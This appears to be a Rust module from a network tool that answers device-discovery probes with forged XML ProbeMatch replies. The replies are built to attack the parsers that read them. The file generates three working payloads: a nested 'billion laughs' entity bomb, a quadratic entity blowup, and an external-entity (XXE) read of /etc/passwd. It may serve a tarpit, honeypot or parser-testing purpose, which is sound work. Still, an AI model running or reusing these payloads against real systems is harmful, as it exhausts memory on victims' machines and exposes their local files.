//! XML that grows without end where entities are expanded, or that would be
//! read from a file of the reader's.

use std::{fmt::Write, net::Ipv4Addr};

use rand::rngs::Xoshiro256PlusPlus;

use super::{Trick, account};

#[derive(Debug)]
pub(super) struct EntityBombs {
    address: Ipv4Addr,
    number: u32,
}

impl EntityBombs {
    pub(super) fn new(address: Ipv4Addr) -> Self {
        Self { address, number: 0 }
    }
}

impl Trick for EntityBombs {
    fn floods(&self) -> bool {
        true
    }

    fn flood(&mut self, _: &mut Xoshiro256PlusPlus) -> Option<Vec<u8>> {
        self.number = self.number.wrapping_add(1) % 3;
        let mac = account::mac(3, self.number);
        let (declarations, model) = match self.number {
            0 => (nested(), "&l9;".to_owned()),
            1 => (
                format!("<!ENTITY l \"{}\">", "l".repeat(20_000)),
                "&l;".repeat(8_000),
            ),
            _ => (
                "<!ENTITY l SYSTEM \"file:///etc/passwd\">".into(),
                "&l;".into(),
            ),
        };
        let (mac, address) = (mac.to_string().replace(':', "-"), self.address);
        // No XML writer lets one write this.
        let document = format!(
            "<?xml version=\"1.0\"?><!DOCTYPE ProbeMatch [{declarations}]>\
             <ProbeMatch><Types>inquiry</Types><DeviceDescription>{model}</DeviceDescription>\
             <DeviceSN>S{mac}</DeviceSN><MAC>{mac}</MAC><IPv4Address>{address}</IPv4Address>\
             </ProbeMatch>"
        );
        Some(document.into_bytes())
    }
}

/// Each entity ten times the one before: three gigabytes in the end.
fn nested() -> String {
    let mut declarations = "<!ENTITY l0 \"lol\">".to_owned();
    for level in 1..10 {
        let before = format!("&l{};", level - 1).repeat(10);
        let _ = write!(declarations, "<!ENTITY l{level} \"{before}\">");
    }
    declarations
}
